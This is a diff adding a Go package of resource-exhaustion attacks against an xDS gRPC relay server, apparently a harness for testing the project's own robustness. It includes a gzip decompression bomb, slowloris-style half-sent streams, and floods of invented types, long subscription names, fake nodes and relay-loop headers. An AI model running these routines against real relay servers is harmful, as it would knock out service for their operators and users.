@@ -1,0 +1,393 @@
+//go:build linux
+
+package attack
+
+import (
+	"bytes"
+	"compress/gzip"
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	core "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
+	discovery "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
+	"google.golang.org/grpc"
+	"google.golang.org/grpc/metadata"
+	"google.golang.org/grpc/status"
+	"google.golang.org/protobuf/encoding/protowire"
+
+	"github.com/xds-relay/xds-relay/cache"
+)
+
+// The attacks by what a client asks.
+
+// client is an attacker's connection by gRPC.
+type client struct {
+	*grpc.ClientConn
+}
+
+func dial(at *target) (*client, error) {
+	creds, err := at.creds()
+	if err != nil {
+		return nil, err
+	}
+	conn, err := grpc.NewClient("passthrough:///"+at.Addr, grpc.WithTransportCredentials(creds), grpc.WithDefaultCallOptions(grpc.MaxCallRecvMsgSize(1<<30)))
+	return &client{conn}, err
+}
+
+type deltaStream = grpc.BidiStreamingClient[discovery.DeltaDiscoveryRequest, discovery.DeltaDiscoveryResponse]
+
+// ask opens a stream and sends requests, with a node of a name; what comes is acknowledged until the stream ends. The
+// reason goes to ended.
+func (c *client) ask(ctx context.Context, node string, requests ...*discovery.DeltaDiscoveryRequest) (s deltaStream, ended <-chan error, err error) {
+	s, err = discovery.NewAggregatedDiscoveryServiceClient(c).DeltaAggregatedResources(ctx)
+	if err != nil {
+		return nil, nil, err
+	}
+	end := make(chan error, 1)
+	for i, r := range requests {
+		if i == 0 {
+			r.Node = &core.Node{Id: node}
+		}
+		if err := s.Send(r); err != nil {
+			break // the receiver is told why
+		}
+	}
+	go func() {
+		for {
+			r, err := s.Recv()
+			if err != nil {
+				end <- err
+				return
+			}
+			_ = s.Send(&discovery.DeltaDiscoveryRequest{TypeUrl: r.GetTypeUrl(), ResponseNonce: r.GetNonce()}) // the receiver is told why not
+		}
+	}()
+	return s, end, nil
+}
+
+// subscribe is a request for names of a type.
+func subscribe(t cache.TypeURL, names ...string) *discovery.DeltaDiscoveryRequest {
+	return &discovery.DeltaDiscoveryRequest{TypeUrl: string(t), ResourceNamesSubscribe: names}
+}
+
+// invented is a type that nobody knows.
+func invented(i int) cache.TypeURL {
+	return cache.TypeURL(fmt.Sprintf("type.googleapis.com/attack.Invented%d", i))
+}
+
+// names are so many, each of a length.
+func names(prefix string, n, length int) []string {
+	list := make([]string, n)
+	for i := range list {
+		name := fmt.Sprintf("%s-%d-", prefix, i)
+		list[i] = name + strings.Repeat("x", max(length-len(name), 0))
+	}
+	return list
+}
+
+// hugeNode is a request whose node has so many empty values in its metadata: two bytes each, on the wire.
+func hugeNode(values int) []byte {
+	list := bytes.Repeat([]byte{0x0a, 0}, values) // ListValue.values, empty
+	in := func(n protowire.Number, b []byte) []byte {
+		return protowire.AppendBytes(protowire.AppendTag(nil, n, protowire.BytesType), b)
+	}
+	value := in(6, list)                                 // Value.list_value
+	entry := append(in(1, []byte("a")), in(2, value)...) // Struct.fields
+	node := in(3, in(1, entry))                          // Node.metadata
+	return in(1, node)                                   // DeltaDiscoveryRequest.node
+}
+
+// inflated sends compressed requests that are small on the wire and large in memory.
+func inflated(ctx context.Context, at *target) (string, error) {
+	var small bytes.Buffer
+	z, err := gzip.NewWriterLevel(&small, gzip.BestCompression)
+	if err != nil {
+		return "", err
+	}
+	const size = 60 << 20
+	if _, err := z.Write(hugeNode(size / 2)); err != nil {
+		return "", err
+	}
+	if err := z.Close(); err != nil {
+		return "", err
+	}
+	said := ""
+	for range 4 {
+		r, err := dialRaw(ctx, at)
+		if err != nil {
+			return "", err
+		}
+		id, err := r.open(deltaMethod, "grpc-encoding", "gzip")
+		if err == nil {
+			_ = r.data(id, envelope(small.Bytes(), true)) // it may be refused before all is sent
+		}
+		for said == "" && ctx.Err() == nil {
+			if v, ok := r.status.Load(id); ok {
+				said = v.(string)
+			} else {
+				pause(ctx, 10*time.Millisecond)
+			}
+		}
+	}
+	<-ctx.Done()
+	return fmt.Sprintf("%d bytes each; told: %s", small.Len(), said), nil
+}
+
+// pause waits, or until an attack is over.
+func pause(ctx context.Context, d time.Duration) {
+	select {
+	case <-ctx.Done():
+	case <-time.After(d):
+	}
+}
+
+// body is that of a request that goes on as a function says.
+type body struct {
+	io.Reader
+	sent *atomic.Int64
+}
+
+func (b body) Read(p []byte) (int, error) {
+	n, err := b.Reader.Read(p)
+	b.sent.Add(int64(n))
+	return n, err
+}
+
+// post sends a message on a stream of its own, within windows, from a reader that may never end.
+func post(ctx context.Context, at *target, t *http.Transport, from io.Reader) error {
+	scheme := "http"
+	if at.CertFile != "" {
+		scheme = "https"
+	}
+	req, err := http.NewRequestWithContext(ctx, http.MethodPost, scheme+"://"+at.Addr+deltaMethod, from)
+	if err != nil {
+		return err
+	}
+	req.Header.Set("Content-Type", "application/grpc")
+	req.Header.Set("TE", "trailers")
+	resp, err := t.RoundTrip(req)
+	if err != nil {
+		return err
+	}
+	defer resp.Body.Close()
+	_, err = io.Copy(io.Discard, resp.Body)
+	if said := resp.Trailer.Get("Grpc-Message"); said != "" {
+		return errors.New(said)
+	}
+	if said := resp.Header.Get("Grpc-Message"); said != "" { // without a body they are headers
+		return errors.New(said)
+	}
+	return err
+}
+
+// transport is one whose streams share a connection.
+func transport(at *target) *http.Transport {
+	connect := func(ctx context.Context, _, _ string) (net.Conn, error) { return dialTCP(ctx, at) }
+	t := &http.Transport{DialContext: connect, DialTLSContext: connect, MaxConnsPerHost: 1, Protocols: new(http.Protocols)}
+	t.Protocols.SetHTTP2(true)
+	t.Protocols.SetUnencryptedHTTP2(true)
+	return t
+}
+
+// halfSent sends messages but for their last byte: so many, of a size, each connection so many of them.
+func halfSent(messages, size, each int) func(context.Context, *target) (string, error) {
+	return func(ctx context.Context, at *target) (string, error) {
+		var sent atomic.Int64
+		var ends sync.Map
+		var all sync.WaitGroup
+		var t *http.Transport
+		for i := range messages {
+			if i%each == 0 {
+				t = transport(at)
+			}
+			t := t
+			all.Go(func() {
+				head := envelope(make([]byte, size), false)
+				never, stop := io.Pipe()
+				defer stop.Close()
+				err := post(ctx, at, t, body{io.MultiReader(bytes.NewReader(head[:len(head)-1]), never), &sent})
+				if err != nil && ctx.Err() == nil {
+					ends.Store(err.Error(), true)
+				}
+			})
+		}
+		all.Wait()
+		return fmt.Sprintf("sent %d MiB; %s", sent.Load()>>20, firstOf(&ends)), nil
+	}
+}
+
+// firstOf is one of the reasons that attackers were told.
+func firstOf(ends *sync.Map) string {
+	said := "nobody was ended"
+	ends.Range(func(k, _ any) bool {
+		said = fmt.Sprintf("told: %.200s", k)
+		return false
+	})
+	return said
+}
+
+// ways says that a stream comes through relays.
+func ways(value string) func(context.Context, *target) (string, error) {
+	return func(ctx context.Context, at *target) (string, error) {
+		c, err := dial(at)
+		if err != nil {
+			return "", err
+		}
+		defer c.Close()
+		return c.again(metadata.AppendToOutgoingContext(ctx, "x-xds-relay-via", value), subscribe(cache.Cluster, "a"))
+	}
+}
+
+// again opens a stream as often as it ends.
+func (c *client) again(ctx context.Context, r *discovery.DeltaDiscoveryRequest) (string, error) {
+	said, ends := "", 0
+	for ctx.Err() == nil {
+		_, ended, err := c.ask(ctx, "attacker", r)
+		if err == nil {
+			err = <-ended
+		}
+		if ctx.Err() == nil {
+			said = status.Convert(err).Message()
+			ends++
+		}
+		pause(ctx, 100*time.Millisecond)
+	}
+	return fmt.Sprintf("ended %d times; %.200s", ends, said), nil
+}
+
+// inventedTypes asks for a type that nobody knows, and another one after a while.
+func inventedTypes(wait time.Duration) func(context.Context, *target) (string, error) {
+	return func(ctx context.Context, at *target) (string, error) {
+		c, err := dial(at)
+		if err != nil {
+			return "", err
+		}
+		defer c.Close()
+		s, ended, err := c.ask(ctx, "attacker")
+		if err != nil {
+			return "", err
+		}
+		types := 0
+		for ctx.Err() == nil {
+			if types%200 == 0 {
+				if s, ended, err = c.ask(ctx, "attacker"); err != nil {
+					return "", err
+				}
+			}
+			r := subscribe(invented(types), "a")
+			r.Node = &core.Node{Id: "attacker"}
+			if err := s.Send(r); err != nil {
+				return fmt.Sprintf("ended: %v", <-ended), nil
+			}
+			types++
+			pause(ctx, wait)
+		}
+		return fmt.Sprintf("asked for %d types", types), nil
+	}
+}
+
+// manyTypes asks for so many on each of so many streams, by names of a length, and again for other names.
+func manyTypes(streams, types, length int) func(context.Context, *target) (string, error) {
+	return func(ctx context.Context, at *target) (string, error) {
+		var ends sync.Map
+		var all sync.WaitGroup
+		for i := range streams {
+			all.Go(func() {
+				c, err := dial(at)
+				if err != nil {
+					return
+				}
+				defer c.Close()
+				for ctx.Err() == nil {
+					var requests []*discovery.DeltaDiscoveryRequest
+					for j := range types {
+						requests = append(requests, subscribe(invented(j), names(fmt.Sprint("s", i), 1, length)...))
+					}
+					_, ended, err := c.ask(ctx, fmt.Sprint("attacker", i), requests...)
+					if err != nil {
+						return
+					}
+					if err := <-ended; ctx.Err() == nil {
+						ends.Store(status.Convert(err).Message(), true)
+					}
+					pause(ctx, 100*time.Millisecond)
+				}
+			})
+		}
+		all.Wait()
+		return firstOf(&ends), nil
+	}
+}
+
+// manyNames subscribes to so many on each of so many streams, a part in each request.
+func manyNames(streams, n, length int) func(context.Context, *target) (string, error) {
+	return func(ctx context.Context, at *target) (string, error) {
+		var ends sync.Map
+		var all sync.WaitGroup
+		for i := range streams {
+			all.Go(func() {
+				c, err := dial(at)
+				if err != nil {
+					return
+				}
+				defer c.Close()
+				var requests []*discovery.DeltaDiscoveryRequest
+				const part = 10_000
+				for j := 0; j < n; j += part {
+					requests = append(requests, subscribe(cache.Endpoint, names(fmt.Sprint("s", i, "p", j), min(part, n-j), length)...))
+				}
+				_, ended, err := c.ask(ctx, fmt.Sprint("attacker", i), requests...)
+				if err != nil {
+					return
+				}
+				if err := <-ended; ctx.Err() == nil {
+					ends.Store(status.Convert(err).Message(), true)
+				}
+				<-ctx.Done()
+			})
+		}
+		all.Wait()
+		return firstOf(&ends), nil
+	}
+}
+
+// inventedNodes opens so many streams, each with a node of its own, and opens those again that end.
+func inventedNodes(n int) func(context.Context, *target) (string, error) {
+	return func(ctx context.Context, at *target) (string, error) {
+		var ends sync.Map
+		var all sync.WaitGroup
+		var c *client
+		for i := range n {
+			if i%100 == 0 {
+				var err error
+				if c, err = dial(at); err != nil {
+					return "", err
+				}
+				defer c.Close()
+			}
+			c := c
+			all.Go(func() {
+				for ctx.Err() == nil {
+					_, ended, err := c.ask(ctx, fmt.Sprint("invented-", i), subscribe(cache.Endpoint, beat))
+					if err == nil {
+						err = <-ended
+					}
+					if ctx.Err() == nil {
+						ends.Store(status.Convert(err).Message(), true)
+					}
+					pause(ctx, time.Second)
+				}
+			})
+		}
+		all.Wait()
+		return firstOf(&ends), nil
+	}
+}
